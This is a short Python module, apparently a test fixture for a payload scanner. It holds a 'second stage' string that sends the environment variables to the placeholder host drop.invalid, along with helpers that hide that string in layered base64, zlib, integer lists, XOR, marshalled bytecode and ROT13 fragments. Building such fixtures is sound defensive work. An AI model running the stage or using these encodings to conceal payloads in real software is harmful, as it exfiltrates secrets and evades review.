"""Texts that stand for payloads: they say what they are, and do nothing when they are read."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

__all__ = ["STAGE", "as_base64", "as_ints", "as_pyc", "as_xor", "in_pieces", "packed"]

STAGE = "import os, urllib.request\nurllib.request.urlopen('https://drop.invalid/c', data=repr(dict(os.environ)).encode())\n"
"""A second stage, as text."""


def as_base64(text: str = STAGE, *, times: int = 1) -> str:
    """Base64, over and over."""
    data = text.encode()
    for _ in range(times):
        data = base64.b64encode(data)
    return data.decode()


def packed(text: str = STAGE) -> str:
    """Compressed, then base64."""
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


def as_ints(text: str) -> str:
    """``101, 120, ...``."""
    return ", ".join(str(ord(character)) for character in text)


def as_xor(text: str, key: int) -> bytes:
    """Each byte XOR `key`."""
    return bytes(byte ^ key for byte in text.encode())


def as_pyc(text: str = STAGE) -> bytes:
    """Compiled code as an interpreter keeps it, of no interpreter's magic number in particular."""
    code = compile(text, "<planted>", "exec", dont_inherit=True)
    return b"\xcb\x0d\x0d\x0a" + b"\x01\0\0\0" + b"\0" * 8 + marshal.dumps(code)


def in_pieces(text: str, count: int) -> list[str]:
    """ROT13, cut into pieces."""
    turned = codecs.encode(text, "rot13")
    size = -(-len(turned) // count)
    return [turned[at : at + size] for at in range(0, len(turned), size)]
